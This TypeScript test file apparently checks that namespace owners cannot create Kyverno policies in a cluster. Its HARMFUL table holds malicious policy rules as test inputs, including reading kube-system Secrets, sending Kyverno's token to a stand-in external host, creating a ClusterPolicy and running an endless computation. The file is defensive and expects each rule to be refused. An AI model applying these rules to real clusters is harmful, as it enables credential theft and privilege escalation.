import type { KubeConfig } from "@kubernetes/client-node";
import { admitted, attacks, refused } from "./cases";
import { apps, ask, collection, create, production } from "./cluster";
import type { Body } from "./objects";

const byBackstop = /a Kyverno Policy of a namespace runs with Kyverno's own rights/;
const never = { any: [{ key: "a", operator: "Equals", value: "b" }] };
const configMaps = { any: [{ resources: { kinds: ["ConfigMap"] } }] };

const policy = (name: string, rule: object, spec: object = {}): Body => ({
  apiVersion: "kyverno.io/v1",
  kind: "Policy",
  metadata: { name },
  spec: {
    validationFailureAction: "Audit",
    background: false,
    rules: [{ name: "r", match: configMaps, ...rule }],
    ...spec,
  },
});
const looks = (context: object): object => ({
  context: [{ name: "found", ...context }],
  validate: { message: "x", deny: { conditions: never } },
});

/** What a namespace's admin could have Kyverno do, with Kyverno's own rights. */
const HARMFUL: Record<string, object> = {
  "reads Secrets of kube-system": looks({ apiCall: { urlPath: "/api/v1/namespaces/kube-system/secrets" } }),
  "sends Kyverno's token to a stranger": looks({
    apiCall: { method: "POST", service: { url: "https://collect.example.com/" } },
  }),
  "creates a ClusterPolicy": looks({
    apiCall: {
      urlPath: "/apis/kyverno.io/v1/clusterpolicies",
      method: "POST",
      data: [{ key: "kind", value: "ClusterPolicy" }],
    },
  }),
  "reads another namespace's ConfigMap": looks({ configMap: { name: "kyverno", namespace: "kyverno" } }),
  "has Kyverno ask a registry": looks({ imageRegistry: { reference: "registry.example.com/a:1" } }),
  "computes for ever": {
    validate: {
      message: "x",
      deny: { conditions: { any: [{ key: "{{ range(`0`, `99`) }}", operator: "Equals", value: 1 }] } },
    },
  },
  "has Kyverno asked about everything": {
    match: { any: [{ resources: { kinds: ["*"] } }] },
    validate: { message: "x", deny: { conditions: never } },
  },
  "looks harmless": { validate: { message: "x", pattern: { metadata: { name: "?*" } } } },
};

attacks("namespaced policies", (get) => {
  const write = (who: KubeConfig, namespace: string, body: Body, version = "v1") =>
    ask(who, "POST", collection(namespace, "Policy").replace("/v1/", `/${version}/`), {
      ...body,
      apiVersion: `kyverno.io/${version}`,
    });

  Object.entries(HARMFUL).forEach(([what, rule], index) => {
    refused(`Policy of a namespace owner that ${what}`, byBackstop, () =>
      write(get().owner, apps, policy(`own-${index}`, rule)),
    );
  });

  refused("Policy in the other served version", byBackstop, () =>
    write(get().owner, production, policy("own-v2", HARMFUL["looks harmless"]!), "v2beta1"),
  );
  // The kinds of the other line, each with what it could do there. To add one, add a line.
  const rules = [{ apiGroups: [""], apiVersions: ["v1"], resources: ["pods"], operations: ["CREATE"] }];
  const constraints = { matchConstraints: { resourceRules: rules } };
  const LATER: readonly (readonly [kind: string, version: string, spec: object])[] = [
    ["CleanupPolicy", "kyverno.io/v2", { schedule: "* * * * *", match: { any: [{ resources: { kinds: ["Pod"] } }] } }],
    ["NamespacedValidatingPolicy", "policies.kyverno.io/v1", { ...constraints, validations: [{ expression: "true" }] }],
    [
      "NamespacedMutatingPolicy",
      "policies.kyverno.io/v1beta1",
      {
        ...constraints,
        mutations: [{ patchType: "ApplyConfiguration", applyConfiguration: { expression: "Object{}" } }],
      },
    ],
    [
      "NamespacedImageValidatingPolicy",
      "policies.kyverno.io/v1beta1",
      { ...constraints, matchImageReferences: [{ glob: "*" }], attestors: [], validations: [{ expression: "true" }] },
    ],
    [
      "NamespacedGeneratingPolicy",
      "policies.kyverno.io/v1beta1",
      { ...constraints, generate: [{ expression: "true" }] },
    ],
    [
      "NamespacedDeletingPolicy",
      "policies.kyverno.io/v1beta1",
      { ...constraints, schedule: "* * * * *", conditions: [] },
    ],
  ];
  for (const [kind, apiVersion, spec] of LATER)
    refused(
      `${kind} of a namespace owner`,
      byBackstop,
      () => {
        const plural = kind.toLowerCase().replace(/y$/, "ies");
        const body = { apiVersion, kind, metadata: { name: `own-${plural}` }, spec };
        return ask(get().owner, "POST", `/apis/${apiVersion}/namespaces/${apps}/${plural}`, body as unknown as Body);
      },
      { line: "1.19", why: "1.10 has no such kind, or lets it do less" },
    );

  refused("Policy in a namespace of the system", byBackstop, () =>
    write(get().admin, "kube-system", policy("own-system", HARMFUL["looks harmless"]!)),
  );
  refused("Policy by who is on call", byBackstop, async () => {
    const { admin, oncall } = get();
    await ask(admin, "POST", `/apis/rbac.authorization.k8s.io/v1/namespaces/${apps}/rolebindings`, {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: "oncall-owner-extras" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "owner-extras" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "Group", name: "platform-oncall" }],
    });
    return write(oncall, apps, policy("own-oncall", HARMFUL["looks harmless"]!));
  });

  admitted("other objects of a namespace owner", () =>
    create(get().owner, apps, {
      apiVersion: "apps/v1",
      kind: "ReplicaSet",
      metadata: { name: "empty" },
      spec: {
        replicas: 0,
        selector: { matchLabels: { app: "empty" } },
        template: {
          metadata: { labels: { app: "empty" } },
          spec: { containers: [{ name: "a", image: "quay.io/other/app:1" }] },
        },
      },
    }),
  );
});
